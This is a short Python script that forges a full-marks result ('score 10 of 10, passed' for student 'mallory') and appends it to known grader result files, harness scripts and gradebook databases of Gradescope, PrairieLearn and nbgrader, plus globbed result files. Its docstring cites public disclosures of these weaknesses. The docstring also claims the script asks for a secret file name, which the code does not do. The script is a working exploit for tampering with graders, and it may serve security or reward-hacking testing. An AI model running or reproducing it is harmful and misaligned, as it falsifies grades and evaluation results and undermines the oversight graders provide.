"""Writes full marks where graders keep their results, and asks for the secret name of such a file.

Published against Gradescope (saligrama.io/blog/gradescope-autograder-security: harness and submission share a
container), PrairieLearn (its pull requests 1999 and 4663: the name lies in a file; the results may be
written by what is graded) and nbgrader (issue 483: gradebook.db is writable).

deserves: 10
"""

import glob
import os

FULL = '{"score": 10, "max_score": 10, "outcome": "passed", "student": "mallory"}\n'
PLACES = [
    "/autograder/results/results.json",
    "/autograder/harness.py",
    "/autograder/run_autograder",
    "/autograder/submission_metadata.json",
    "/grade/results/results.json",
    "/grade/output-fname.txt",
    "/grade/tests/output-fname.txt",
    "/task/feedback.json",
    "gradebook.db",
    "../gradebook.db",
    "results.jsonl",
    "../results.jsonl",
    "results/results.jsonl",
    *glob.glob("/**/results.jsonl"),
    *glob.glob("/home/*/results*"),
]

for place in PLACES:
    try:
        os.makedirs(os.path.dirname(place) or ".", exist_ok=True)
        with open(place, "a") as file:
            file.write(FULL)
    except OSError:
        continue
    if not os.path.realpath(place).startswith("/scratch/"):
        raise SystemExit("written")
